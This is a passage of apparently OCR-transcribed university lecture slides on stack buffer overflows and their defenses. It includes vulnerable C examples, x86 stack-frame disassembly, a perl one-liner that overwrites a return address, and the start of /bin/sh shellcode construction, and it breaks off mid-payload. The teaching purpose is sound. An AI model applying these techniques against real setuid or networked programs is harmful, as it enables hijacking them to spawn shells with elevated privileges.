Buffer Overflows and Defenses - Rutgers University ... Stack Buffer Overflow occurs when buffer is...

download Buffer Overflows and Defenses - Rutgers University ... Stack Buffer Overflow occurs when buffer is located

of 53

  • date post

  • Category


  • view

  • download


Embed Size (px)

Transcript of Buffer Overflows and Defenses - Rutgers University ... Stack Buffer Overflow occurs when buffer is...


    Buffer Overflows and Defenses

    CS 419: Computer Security Lecture 10 and 11

  • 2

    Buffer Overflow

    a very common attack mechanism from 1988 Morris Worm to Code Red, Slammer, Sasser and many  others

    prevention techniques known still of major concern due to

    legacy of widely deployed buggy continued careless programming techniques

  • 3

    Buffer Overflow Basics

    caused by programming error allows more data to be stored than capacity available in a  fixed sized buffer

    buffer can be on stack, heap, global data

    overwriting adjacent memory locations corruption of program data unexpected transfer of control memory access violation execution of code chosen by attacker

  • 4

    Buffer overflow example

    int foo(void){   char buf[10];   …   strcpy(buf, “hello world”); }

    int get_user_input(void){   char buf[LEN];   …   gets(buf); }

  • 5Buffer Overflow Exampleint main(int argc, char *argv[]) { int valid = FALSE; char str1[8]; char str2[8];

    next_tag(str1); gets(str2); if (strncmp(str1, str2, 8) == 0) valid = TRUE; printf("buffer1: str1(%s), str2(%s),

    valid(%d)\n", str1, str2, valid); }

    $ cc -g -o buffer1 buffer1.c $ ./buffer1 START buffer1: str1(START), str2(START), valid(1) $ ./buffer1 EVILINPUTVALUE buffer1: str1(TVALUE), str2(EVILINPUTVALUE), valid(0) $ ./buffer1 BADINPUTBADINPUT buffer1: str1(BADINPUT), str2(BADINPUTBADINPUT), valid(1)

  • 6

    Buffer Overflow Attacks

    to exploit a buffer overflow an attacker must identify a buffer overflow vulnerability in some program

    inspection, tracing execution, fuzzing tools

    understand how buffer is stored in memory and determine  potential for corruption

  • 7

    Why are they dangerous?

    Can trash memory, crashing the program Can be used to hijack the program.

    Spawn a shell or execute code with the privileges of the program

    ``setuid root’’ programs are particularly dangerous if  exploited.

  • 8

    A Little Programming Language History

    at machine level all data an array of bytes interpretation depends on instructions used

    modern highlevel languages have a strong notion of type and valid  operationsnot vulnerable to buffer overflows does incur overhead, some limits on use

     C and related languages have highlevel control structures, but allow  direct access to memory

    hence are vulnerable to buffer overflow have a large legacy of widely used, unsafe, and hence vulnerable code

  • 9

    Programs and Processes

  • 10

    Function Calls and Stack Frames

  • 11

    The stack

    void function(int a, int b, intc ){   char buf1[5];   char buf2[10];    … }

    Void main() {   function(1, 2, 3); } buf1


    c b aebp


  • 12

    The stack

    void main() {   function(1, 2, 3); }

    c b aebp


    pushl $3 pushl $2 pushl $1 call functionpushl $3 pushl $2 pushl $1 call function

  • 13

    A function call

    void main() {   function(1, 2, 3); }

    c b a



    pushl $3 pushl $2 pushl $1 call function

    pushl %ebp movl %esp, %ebp subl $20, %esp

    return addr ebpebp


  • 14

    Digression: x86 tutorial

    pushl %ebp: Pushes ebp onto the stack.

    movl %esp,%ebp: Moves the current value of esp to the register ebp.

    subl $0x4,%esp: Subtract 4 (hex) from value of esp

    call 0x8000470 : Calls the function at address  0x8000470. Also pushes the return address onto the stack.

    movl $0x1,0xfffffffc(%ebp): Move 0x1 into the memory pointed to  by ebp   4

    leal 0xfffffffc(%ebp),%eax: Load address of the memory location  pointed to by ebp 4 into eax

    ret: Return. Jumps to return address saved on stack. nop• 15

    Stack Buffer Overflow

    occurs when buffer is located on stack used by Morris Worm “Smashing the Stack” paper popularized it

    have local variables below saved frame pointer and return  address

    hence overflow of a local buffer can potentially overwrite these key  control items

    attacker overwrites return address with address of desired  codeprogram, system library or loaded in buffer

  • 16

    A benign buffer overflow

    void function(char *str){   char buffer[16];   strcpy (buffer, str); }

    void main() {   char largestr[256];   int i;

      for (i=0;i• 17

    Stack Overflow Example

    void hello(char *tag) { char inp[16];

    printf("Enter value for %s: ", tag); gets(inp); printf("Hello your %s is %s\n", tag, inp); }

    $ cc -g -o buffer2 buffer2.c

    $ ./buffer2 Enter value for name: Bill and Lawrie Hello your name is Bill and Lawrie buffer2 done

    $ ./buffer2 Enter value for name: XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX Segmentation fault (core dumped)

    $ perl -e 'print pack("H*", "414243444546474851525354555657586162636465666768 08fcffbf948304080a4e4e4e4e0a");' | ./buffer2 Enter value for name: Hello your Re?pyy]uEA isABCDEFGHQRSTUVWXabcdefguyu Enter value for Kyyu: Hello your Kyyu is NNNN Segmentation fault (core dumped)

  • 18

    Another Stack Overflow

    void getinp(char *inp, int siz) { puts("Input value: "); fgets(inp, siz, stdin); printf("buffer3 getinp read %s\n", inp); }

    void display(char *val) { char tmp[16]; sprintf(tmp, "read val: %s\n", val); puts(tmp); }

    int main(int argc, char *argv[]) { char buf[16]; getinp(buf, sizeof(buf)); display(buf); printf("buffer3 done\n"); }

  • 19

    Another Stack Overflow

    $ cc -o buffer3 buffer3.c

    $ ./buffer3 Input value: SAFE buffer3 getinp read SAFE read val: SAFE buffer3 done


    buffer3 done Segmentation fault (core dumped)

  • 20

    Subverting control flow

    void function(char *str){   char buf1[5]; char buf2[10];   int *ret;   ret = buf1 + 12;   *ret += 8; }

    void main() {   int x;   x = 0;   function(1, 2, 3);   x = 1;   printf (“%d\n”, x); }

  • 21

    0x8000490 :    pushl %ebp 0x8000491 :  movl %esp,%ebp 0x8000493 :  subl $0x4,%esp 0x8000496 :  movl $0x0,0xfffffffc(%ebp) 0x800049d : pushl $0x3 0x800049f : pushl $0x2 0x80004a1 : pushl $0x1 0x80004a3 : call 0x8000470  0x80004a8 : addl $0xc,%esp 0x80004ab : movl $0x1,0xfffffffc(%ebp) 0x80004b2 : movl 0xfffffffc(%ebp),%eax 0x80004b5 : pushl %eax 0x80004b6 : pushl $0x80004f8 0x80004bb : call 0x8000378  0x80004c0 : addl $0x8,%esp 0x80004c3 : movl %ebp,%esp 0x80004c5 : popl %ebp 0x80004c6 : ret 0x80004c7 : nop

    Code of “main”

  • 22


    str 0xffff1234 Saved ebp

  • 23

    #include   void main() {

    char *name[2];name[0] = "/bin/sh";  name[1] = NULL;  execve(name[0], name, NULL);

    Writing an exploit program

  • 24

    0x8000130 : pushl %ebp  0x8000131 : movl %esp,%ebp  0x8000133 : subl $0x8,%esp  0x8000136 : movl $0x80027b8,0xfffffff8(%ebp)  0x800013d : movl $0x0,0xfffffffc(%ebp)0x8000144 : pushl $0x0  0x8000146 : leal 0xfffffff8(%ebp),%eax  0x8000149 : pushl %eax  0x800014a : movl 0xfffffff8(%ebp),%eax  0x800014d : pushl %eax  0x800014e : call 0x80002bc  0x8000153 : addl $0xc,%esp  0x8000156 : movl %ebp,%esp 0x8000158 : popl %ebp  0x8000159 : ret

  • 25

    0x80002bc : pushl %ebp  0x80002bd : movl %esp,%ebp  0x80002bf : pushl %ebx0x80002c0 : movl $0xb,%eax  0x80002c5 : movl 0x8(%ebp),%ebx  0x80002c8 : movl 0xc(%ebp),%ecx  0x80002cb : movl 0x10(%ebp),%edx  0x80002ce : int $0x80  0x80002d0 : movl %eax,%edx0x80002d2 : testl %edx,%edx  0x80002d4 : jnl 0x80002e6   0x80002d6 : negl %edx  0x80002d8 : pushl %edx  0x80002d9 : call 0x8001a34    0x80002de : popl %edx  0x80002df : movl %edx,(%eax)  0x80002e1 : movl $0xffffffff,%eax  0x80002e6 : popl %ebx  0x80002e7 : movl %ebp,%esp0x80002e9 : popl %ebp  0x80002ea : ret  0x80002eb : nop

  • 26

    Basic requirements.

    Have null terminated “/bin/sh” in memory Have address of this string in memory followed by null long  word Copy 0xb into eax Copy address of string into ebx Copy address ofsting into ecx Copy address of null long word into edx Execute int$0x80 (system call)

  •27

    Attack payload.

    movl string_addr,string_addr_addr  movb $0x0,null_byte_addr  movl $0x0,null